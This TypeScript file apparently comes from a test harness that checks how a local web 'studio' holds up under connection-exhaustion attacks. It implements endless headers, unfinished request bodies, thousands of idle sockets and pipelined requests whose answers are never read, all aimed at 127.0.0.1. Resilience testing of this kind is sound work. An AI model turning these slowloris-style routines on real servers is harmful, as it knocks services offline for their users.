/** Attacks by connections that are held open: heads, bodies and answers that somebody never comes to the end of. */
import { connect, type Socket } from 'node:net'
import { type Attack, attackerAddress, type Target } from './target.ts'

const mebibyte = 1_048_576

/** How one connection is held: what it says first, what it says on and on, and how much of that. */
type Held = { first: string; next: string; bytes: number; isUnread?: boolean }

/** Holds so many connections until it is over; one that is ended is begun anew after a moment. */
function hold(
  { port }: Target,
  over: AbortSignal,
  { count, held }: { count: number; held: (turn: number) => Held },
): Promise<void> {
  const open = new Set<Socket>()
  const begin = (turn: number): void => {
    if (over.aborted) return
    const socket = connect({ port, host: '127.0.0.1', localAddress: attackerAddress() })
    open.add(socket)
    socket.on('error', () => undefined)
    socket.once('close', () => {
      open.delete(socket)
      setTimeout(() => begin(turn), 500).unref()
    })
    const said = held(turn)
    if (said.isUnread !== true) socket.resume()
    pour(socket, said)
  }
  for (let turn = 0; turn < count; turn += 1) begin(turn)
  return new Promise((done) => {
    const end = (): void => {
      for (const socket of open) socket.destroy()
      done()
    }
    if (over.aborted) end()
    else over.addEventListener('abort', end, { once: true })
  })
}

function pour(socket: Socket, { first, next, bytes }: Held): void {
  let left = bytes
  const write = (): void => {
    while (left > 0 && !socket.destroyed) {
      left -= next.length
      if (!socket.write(next)) return void socket.once('drain', write)
    }
  }
  socket.write(first)
  write()
}

/** Nearly a mebibyte of headers on each of 300 connections, and never the empty line. */
export const openHeads: Attack = {
  name: 'headers without end',
  run: (target, over) =>
    hold(target, over, {
      count: 300,
      held: () => ({
        first: `GET / HTTP/1.1\r\nHost: ${target.siteHost}\r\n`,
        next: `x: ${'h'.repeat(8_000)}\r\n`,
        bytes: mebibyte - 16_384,
      }),
    }),
}

const bodies = [
  { path: '/api/apps/00000000-0000-7000-8000-000000000000/ai-chat', bytes: 2 * mebibyte },
  { path: '/api/auth/logout', bytes: mebibyte },
  { path: '/api/github/user/repos', bytes: 8 * mebibyte },
] as const

/** Bodies for the studio's own API that are as long as they may be, and want their last bytes for ever. */
export const openBodies: Attack = {
  name: 'bodies of the studio that want their end',
  run: (target, over) =>
    hold(target, over, {
      count: 280,
      held(turn) {
        const { path, bytes } = bodies[turn % bodies.length] ?? bodies[0]
        return {
          first: [
            `POST ${path} HTTP/1.1`,
            `Host: localhost:${target.port}`,
            `Authorization: Bearer ${target.studioToken}`,
            'Content-Type: application/json',
            `Content-Length: ${bytes}`,
            '\r\n',
          ].join('\r\n'),
          next: ' '.repeat(65_536),
          bytes: bytes - 131_072,
        }
      },
    }),
}

/** Connections that begin a request, finish one, or say nothing. */
export const idleSockets: Attack = {
  name: 'thousands of connections',
  run: (target, over) =>
    hold(target, over, {
      count: 3_000,
      held: (turn) => ({
        first:
          ['', 'GET /healthz HTTP/1.1\r\nHo', `GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n`][
            turn % 3
          ] ?? '',
        next: '',
        bytes: 0,
      }),
    }),
}

/** Sixty requests one behind the other on each of 200 connections, for what is large, and nothing of it is read. */
export const unreadAnswers: Attack = {
  name: 'answers that nobody reads',
  run: (target, over) =>
    hold(target, over, {
      count: 200,
      held: (turn) => {
        const studio = `localhost:${target.port}`
        const asked = [
          ['/api/openapi.json', studio],
          ['/sitemap.xml', studio],
          ['/api/docs', studio],
          ['/', studio],
          ['/', target.siteHost],
        ] as const
        const [path, host] = asked[turn % asked.length] ?? asked[0]
        return {
          first: `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(60),
          next: '',
          bytes: 0,
          isUnread: true,
        }
      },
    }),
}
